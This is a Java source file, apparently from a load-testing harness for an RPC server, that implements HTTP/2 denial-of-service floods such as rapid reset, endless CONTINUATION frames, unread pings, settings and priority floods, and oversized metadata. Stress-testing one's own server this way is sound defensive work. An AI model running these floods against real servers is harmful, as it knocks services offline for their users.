package tern.rpc.load.attack;

import java.io.IOException;
import java.util.concurrent.atomic.AtomicInteger;

/** Attacks with HTTP/2 frames that cost the server more than the attacker. */
final class Frames {

    private static final int PRIORITY = 2;
    private static final int PING = 6;
    private static final int CONTINUATION = 9;
    private static final int PRIORITY_UPDATE = 16;

    private Frames() {}

    /** Makes calls and resets them immediately. */
    static void rapidReset(Attacker attacker) {
        attacker.together(4, () -> {
            try (RawHttp2 connection = attacker.connect(2, -1)) {
                attacker.watch(connection);
                while (attacker.goesOn()) {
                    connection.reset(connection.call("quick", "a"));
                }
            }
        });
    }

    /** Sends header blocks that never end. */
    static void continuations(Attacker attacker) {
        attacker.together(4, () -> {
            try (RawHttp2 connection = attacker.connect(2, -1)) {
                byte[] nothing = new byte[0];
                byte[] field = {0, 1, 'a', 1, 'b'};
                connection.write(RawHttp2.HEADERS, 0, 1, field);
                attacker.watch(connection);
                for (int i = 0; attacker.goesOn(); i++) {
                    connection.write(CONTINUATION, 0, 1, i % 2 == 0 ? nothing : field);
                }
            }
        });
    }

    /** Sends pings and does not read the responses. */
    static void unreadPings(Attacker attacker) {
        attacker.together(4, () -> {
            try (RawHttp2 connection = attacker.connect(2, -1)) {
                byte[] ping = new byte[8];
                while (attacker.goesOn()) {
                    connection.write(PING, 0, 0, ping);
                }
            }
        });
    }

    /** Sends DATA frames without content. */
    static void emptyData(Attacker attacker) {
        attacker.together(4, () -> {
            try (RawHttp2 connection = attacker.connect(2, -1)) {
                attacker.watch(connection);
                int stream = connection.begin("quick");
                byte[] nothing = new byte[0];
                while (attacker.goesOn()) {
                    connection.write(RawHttp2.DATA, 0, stream, nothing);
                }
            }
        });
    }

    /** Sends frames that change settings and priorities, from 20 addresses, and reads all answers. */
    static void control(Attacker attacker) {
        AtomicInteger next = new AtomicInteger();
        byte[] settings = {0, 1, 0, 0, 16, 0}; // SETTINGS_HEADER_TABLE_SIZE
        byte[] priority = {0, 0, 0, 0, 16};
        byte[] update = {0, 0, 0, 1, 'u', '=', '1'};
        attacker.together(20, () -> {
            try (RawHttp2 connection = attacker.connect(Crowds.address(next), -1)) {
                attacker.watch(connection);
                for (int i = 1; attacker.goesOn(); i += 2) {
                    connection.write(RawHttp2.SETTINGS, 0, 0, settings);
                    connection.write(PRIORITY, 0, i, priority);
                    connection.write(PRIORITY_UPDATE, 0, 0, update);
                }
            }
        });
    }

    /** Sends requests that end with their headers or with trailers, and reads all answers. */
    static void headersOnly(Attacker attacker) {
        AtomicInteger next = new AtomicInteger();
        byte[] trailer = {0, 1, 'a', 1, 'b'};
        attacker.together(20, () -> {
            try (RawHttp2 connection = attacker.connect(Crowds.address(next), -1)) {
                attacker.watch(connection);
                while (attacker.goesOn()) {
                    int stream = connection.begin("quick");
                    connection.write(RawHttp2.HEADERS, RawHttp2.END_STREAM | RawHttp2.END_HEADERS, stream, trailer);
                }
            }
        });
    }

    /** Makes calls with a timeout of one nanosecond, and reads all answers. */
    static void tinyDeadlines(Attacker attacker) {
        AtomicInteger next = new AtomicInteger();
        attacker.together(20, () -> flood(attacker, Crowds.address(next), "sleep", "grpc-timeout", "1n"));
    }

    /** Makes calls with many large headers, and reads all answers. */
    static void largeMetadata(Attacker attacker) {
        AtomicInteger next = new AtomicInteger();
        String header = "h".repeat(7_000);
        attacker.together(
                20,
                () -> flood(
                        attacker, Crowds.address(next), "quick", "a", header, "b", header, "c", header, "d", header));
    }

    /** Calls methods that do not exist, and reads all answers. Each call uses a new name. */
    static void unknownNames(Attacker attacker) {
        AtomicInteger next = new AtomicInteger();
        AtomicInteger name = new AtomicInteger();
        byte[] message = RawHttp2.message(0, new byte[0]);
        attacker.together(20, () -> {
            try (RawHttp2 connection = attacker.connect(Crowds.address(next), -1)) {
                attacker.watch(connection);
                while (attacker.goesOn()) {
                    int stream = connection.begin("method" + name.getAndIncrement() + "x".repeat(500));
                    connection.write(RawHttp2.DATA, RawHttp2.END_STREAM, stream, message);
                }
            }
        });
    }

    private static void flood(Attacker attacker, int from, String method, String... headers) throws IOException {
        byte[] message = RawHttp2.message(0, new byte[] {0x0a, 1, 'a'});
        try (RawHttp2 connection = attacker.connect(from, -1)) {
            attacker.watch(connection);
            while (attacker.goesOn()) {
                connection.write(RawHttp2.DATA, RawHttp2.END_STREAM, connection.begin(method, headers), message);
            }
        }
    }
}
